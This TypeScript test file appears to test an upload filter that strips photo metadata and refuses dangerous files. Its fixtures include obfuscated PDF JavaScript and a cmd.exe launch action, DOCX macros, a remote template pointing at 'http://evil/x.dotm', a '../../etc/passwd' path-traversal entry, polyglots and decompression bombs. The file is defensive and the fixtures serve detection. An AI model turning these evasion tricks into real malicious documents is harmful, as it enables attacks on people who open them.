import { spawnSync } from 'node:child_process';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { Readable } from 'node:stream';
import fs from 'node:fs/promises';
import {
  docx,
  heic,
  interlaced,
  packedObject,
  pdf,
  photo,
  png,
  zip,
} from '../../../test/document-samples.js';
import { Problem } from '../../platform/problem.js';
import { inspect } from './inspect.js';
import { Places } from './places.js';
import { wholeBytesOf } from './pictures.js';
import { sweepReceived, withReceived } from './receive.js';

interface Kept {
  readonly format: string;
  readonly width: number | null;
  readonly height: number | null;
  readonly content: Buffer;
}

const keep = (content: Buffer): Promise<Kept> =>
  withReceived(Readable.from([content]), async (received) => {
    const { format, file, bytes, width, height } = await inspect(received);
    const kept = await fs.readFile(file);
    expect(kept).toHaveLength(bytes);
    return { format, width, height, content: kept };
  });

/** The rule that a content was refused by; `null` when it was taken. */
const refusal = async (content: Buffer): Promise<string | null> => {
  try {
    await keep(content);
    return null;
  } catch (thrown) {
    if (!(thrown instanceof Problem)) throw thrown;
    const [error] = (thrown.extra['errors'] ?? []) as { pointer: string; rules: string[] }[];
    return error === undefined ? thrown.code : error.rules.join();
  }
};

describe('a picture', () => {
  it('is written anew: upright, and without the place where it was taken', async () => {
    const taken = await photo();
    expect((await sharp(taken).metadata()).exif?.includes('Telephone')).toBe(true);

    const kept = await keep(taken);
    const after = await sharp(kept.content).metadata();

    expect(kept).toMatchObject({ format: 'jpeg', width: 40, height: 60 });
    expect([after.exif, after.orientation, after.xmp, after.iptc]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
    expect(kept.content.includes('GPS') || kept.content.includes('Telephone')).toBe(false);
  });

  it('of a PNG stays one', async () => {
    expect(await keep(await png())).toMatchObject({ format: 'png', width: 8, height: 8 });
  });

  it('of an Apple telephone is kept as JPEG', async () => {
    const kept = await keep(heic());

    expect(kept).toMatchObject({ format: 'jpeg', width: 64, height: 48 });
    const { channels } = await sharp(kept.content).stats();
    expect(channels[0]!.mean).toBeGreaterThan(channels[2]!.mean);
  });

  it('carries nothing along that was hidden behind it', async () => {
    const polyglot = Buffer.concat([await photo(), zip({ 'evil.exe': 'MZ' }), Buffer.from('<script>')]);

    const kept = await keep(polyglot);

    expect(kept.content.includes('evil.exe') || kept.content.includes('<script>')).toBe(false);
  });

  it.each([
    ['truncated', async () => (await photo()).subarray(0, 400)],
    ['truncated PNG', async () => (await png(64, 64)).subarray(0, 90)],
    ['truncated HEIC', async () => heic().subarray(0, 300)],
    ['only the head of a JPEG', async () => Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
  ])('that is %s is refused', async (_, content) => {
    expect(await refusal(await content())).toBe('isWhole');
  });

  it('has a thumbnail on which nothing can be read', async () => {
    const wide = await sharp({ create: { width: 2_000, height: 500, channels: 4, background: '#0000' } })
      .png()
      .toBuffer();

    const size = await withReceived(Readable.from([wide]), async (received) => {
      const { thumbnail } = await inspect(received);
      const { width, height, format } = await sharp(thumbnail ?? '').metadata();
      return { width, height, format };
    });

    expect(size).toEqual({ width: 160, height: 40, format: 'jpeg' });
  });

  it.each<[string, Partial<Parameters<typeof wholeBytesOf>[0]>, number]>([
    ['a PNG that is read line by line', { format: 'png' }, 0],
    ['an interlaced PNG', { format: 'png', isProgressive: true }, 3_000],
    ['one of sixteen bits', { format: 'png', isProgressive: true, channels: 4, depth: 'ushort' }, 8_000],
    ['a PNG that is to be turned', { format: 'png', orientation: 6 }, 3_000],
    ['a JPEG that is read line by line', { format: 'jpeg', orientation: 6 }, 0],
    ['a progressive JPEG', { format: 'jpeg', isProgressive: true, chromaSubsampling: '4:4:4' }, 6_000],
    [
      'one with a quarter of the colour',
      { format: 'jpeg', isProgressive: true, chromaSubsampling: '4:2:0' },
      3_000,
    ],
  ])('takes no more memory at once than is known beforehand: %s', (_, told, bytes) => {
    const plain = { format: 'png', width: 50, height: 20, channels: 3, depth: 'uchar' } as const;

    expect(wholeBytesOf({ ...plain, ...told })).toBe(bytes);
  });

  it('that could only be decoded as a whole is refused before it is, if it is very large', async () => {
    const large = interlaced(10_900, 10_900);

    expect(large.length).toBeLessThan(1_000_000);
    expect(await refusal(large)).toBe('isNotTooLargePicture');
  });

  it('of a few bytes that would unpack to gigabytes is refused before it is', async () => {
    const bomb = await png();
    bomb.writeUInt32BE(60_000, 16);
    bomb.writeUInt32BE(60_000, 20);

    expect(['isNotTooLargePicture', 'isWhole']).toContain(await refusal(bomb));
  });
});

describe('a PDF', () => {
  it('is kept as it is', async () => {
    const letter = pdf();

    expect((await keep(letter)).content.equals(letter)).toBe(true);
  });

  it.each([
    ['runs a script', pdf({ more: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }), 'hasNoScripts'],
    [
      'hides the name of the script',
      pdf({ more: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' }),
      'hasNoScripts',
    ],
    [
      'hides it in a packed list',
      pdf({ objects: packedObject('<< /S /JavaScript /JS (x) >>') }),
      'hasNoScripts',
    ],
    [
      'hides it behind a word that looks like the beginning of data',
      pdf({ more: '/X (>> stream\n) /OpenAction << /S /JavaScript /JS (x) >> /Y (endstream)' }),
      'hasNoScripts',
    ],
    [
      'hides the packed list behind such a word',
      pdf({
        objects: `6 0 obj << /X (>> stream\n) >> endobj ${packedObject('<< /S /JavaScript /JS (x) >>')}`,
      }),
      'hasNoScripts',
    ],
    [
      'does not say that the packed list is one',
      pdf({ objects: packedObject('<< /S /JavaScript /JS (x) >>').replace('/Type /ObjStm', '') }),
      'hasNoScripts',
    ],
    [
      'says so at the other end of a long dictionary',
      pdf({
        objects: packedObject('<< /S /JavaScript /JS (x) >>').replace(
          '/N 1',
          `/N 1 /X (${'x'.repeat(9_000)})`,
        ),
      }),
      'hasNoScripts',
    ],
    [
      'has many lists that unpack to gigabytes together',
      pdf({ objects: Array.from({ length: 40 }, () => packedObject(' '.repeat(1_000_000))).join('\n') }),
      'isNotTooLargeInside',
    ],
    ['opens a program', pdf({ more: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'hasNoScripts'],
    ['carries another file', pdf({ more: '/Names << /EmbeddedFiles 9 0 R >>' }), 'hasNoScripts'],
    ['is locked by a password', pdf({ trailer: '/Encrypt 9 0 R' }), 'isNotEncrypted'],
    ['ends in the middle', pdf().subarray(0, 150), 'isWhole'],
  ])('that %s is refused', async (_, content, rule) => {
    expect(await refusal(content)).toBe(rule);
  });

  it('is taken with the words of a script in the data of a picture, where nothing runs', async () => {
    const object = '4 0 obj << /Length 20 >>\nstream\nxx /JS x /XFA xxxxx\nendstream endobj';

    expect(await refusal(pdf({ objects: object }))).toBeNull();
  });
});

describe('a letter of Word', () => {
  it('is kept as it is', async () => {
    const letter = docx();

    expect((await keep(letter)).content.equals(letter)).toBe(true);
  });

  const template =
    '<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>';

  it.each([
    ['has macros', docx({ 'word/vbaProject.bin': 'x' }), 'hasNoMacros'],
    [
      'says that it has macros',
      docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      'hasNoMacros',
    ],
    ['carries a program', docx({ 'word/embeddings/setup.exe': 'MZ' }), 'hasNoMacros'],
    ['fetches a template elsewhere', docx({ 'word/_rels/settings.xml.rels': template }), 'hasNoScripts'],
    [
      'fetches it with other quotes',
      docx({ 'word/_rels/settings.xml.rels': template.replaceAll('"', "'") }),
      'hasNoScripts',
    ],
    [
      'fetches it behind a sign that looks like the end',
      docx({ 'word/_rels/settings.xml.rels': template.replace('Id="1"', 'Id="1>"') }),
      'hasNoScripts',
    ],
    [
      'fetches it in another alphabet',
      docx({ 'word/_rels/settings.xml.rels': Buffer.from(template, 'utf16le') }),
      'hasNoScripts',
    ],
    ['fetches it by a part in capitals', docx({ 'word/_rels/settings.xml.RELS': template }), 'hasNoScripts'],
    [
      'fetches a picture elsewhere, which tells who opened it',
      docx({ 'word/_rels/document.xml.rels': template.replace('attachedTemplate', 'image') }),
      'hasNoScripts',
    ],
    ['leads out of its folder', docx({ '../../etc/passwd': 'x' }), 'isAcceptedFormat'],
    ['is another zip', zip({ 'photo.txt': 'x' }), 'isAcceptedFormat'],
    ['is a table', zip({ '[Content_Types].xml': 'x', 'xl/workbook.xml': 'x' }), 'isAcceptedFormat'],
    ['ends in the middle', docx().subarray(0, 200), 'isWhole'],
    ['has something behind it', Buffer.concat([docx(), Buffer.from('MZ')]), 'isWhole'],
    [
      'unpacks to more than it says',
      zip(
        { '[Content_Types].xml': 'main+xml', 'word/document.xml': Buffer.alloc(5_000_000) },
        { 'word/document.xml': 10 },
      ),
      'isAcceptedFormat,isNotTooLargeInside',
    ],
    [
      'unpacks to gigabytes',
      docx(
        Object.fromEntries(
          Array.from({ length: 6 }, (_, i) => [`word/media/${i}.xml`, Buffer.alloc(45_000_000)]),
        ),
      ),
      'isNotTooLargeInside',
    ],
  ])('that %s is refused', async (_, content, rules) => {
    expect(rules.split(',')).toContain(await refusal(content));
  });

  it('with a million beginnings of a tag is looked through at once', async () => {
    const since = performance.now();
    const relations = docx({ 'word/_rels/document.xml.rels': '<Relationship '.repeat(1_000_000) });

    expect(await refusal(relations)).toBeNull();
    expect(performance.now() - since).toBeLessThan(5_000);
  });

  it('that links to a page of the web is taken', async () => {
    const link =
      '<Relationships><Relationship Id="1" Type="http://x/hyperlink" Target="https://egov.kz" TargetMode="External"/></Relationships>';

    expect(await refusal(docx({ 'word/_rels/document.xml.rels': link }))).toBeNull();
  });
});

describe('anything else', () => {
  it.each([
    ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300)])],
    ['a page of the web', Buffer.from('<!doctype html><script>alert(1)</script>')],
    [
      'a drawing that runs scripts',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    ],
    ['text', Buffer.from('Аружан')],
    ['zeros', Buffer.alloc(1000)],
    ['a moving picture', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1')],
    ['junk before a PDF', Buffer.concat([Buffer.from('#!/bin/sh\n'), pdf()])],
  ])('is refused: %s', async (_, content) => {
    expect(await refusal(content)).toBe('isAcceptedFormat');
  });

  it('is refused when it is nothing at all', async () => {
    expect(await refusal(Buffer.alloc(0))).toBe('isNotEmpty');
  });

  it('is refused at the first byte beyond twenty megabytes, and leaves no trace on the disk', async () => {
    let sent = 0;
    function* endless(): Generator<Buffer> {
      for (; sent < 400; sent += 1) yield Buffer.alloc(1024 * 1024, 37);
    }
    let folder = '';

    const upload = withReceived(Readable.from(endless()), (received) => {
      folder = received.folder;
      return Promise.resolve();
    });

    await expect(upload).rejects.toMatchObject({ code: 'payload_too_large' });
    expect(sent).toBeLessThan(40);
    expect(folder).toBe('');
  });
});

describe('what an upload left that was cut off', () => {
  it('is swept when the next process starts; what a running one works at stays', async () => {
    const top = await fs.mkdtemp(path.join(os.tmpdir(), 'birge-sweep-'));
    const leave = async (name: string, at?: Date): Promise<void> => {
      await fs.mkdir(path.join(top, name));
      await fs.writeFile(path.join(top, name, 'received'), 'half of it');
      if (at) await fs.utimes(path.join(top, name), at, at);
    };
    const longAgo = new Date('2026-01-01');
    // A process that has just ended: its number belongs to nobody now.
    const gone = spawnSync(process.execPath, ['-e', '']).pid;
    await leave(`birge-upload-${gone}-AAAAAA`);
    await leave(`birge-upload-${process.ppid}-BBBBBB`, longAgo);
    await leave(`birge-upload-${process.pid}-CCCCCC`);
    await leave(`birge-upload-${process.pid}-DDDDDD`, longAgo);
    await leave('somebody-elses-folder', longAgo);

    const swept = await sweepReceived(top);

    expect(swept).toBe(2);
    expect((await fs.readdir(top)).sort()).toEqual(
      [
        `birge-upload-${process.pid}-CCCCCC`,
        `birge-upload-${process.ppid}-BBBBBB`,
        'somebody-elses-folder',
      ].sort(),
    );
    await fs.rm(top, { recursive: true });
  });
});

describe('the places', () => {
  it('are never more than there are, and are free again after a failure', async () => {
    const places = new Places(2);
    let now = 0;
    let most = 0;
    const work = async (index: number): Promise<void> => {
      now += 1;
      most = Math.max(most, now);
      await new Promise((resolve) => setTimeout(resolve, 2));
      now -= 1;
      if (index % 3 === 0) throw new Error('broken');
    };

    const outcomes = await Promise.allSettled(
      Array.from({ length: 9 }, (_, index) => places.run(() => work(index))),
    );

    expect(most).toBe(2);
    expect(outcomes.filter(({ status }) => status === 'rejected')).toHaveLength(3);
  });
});
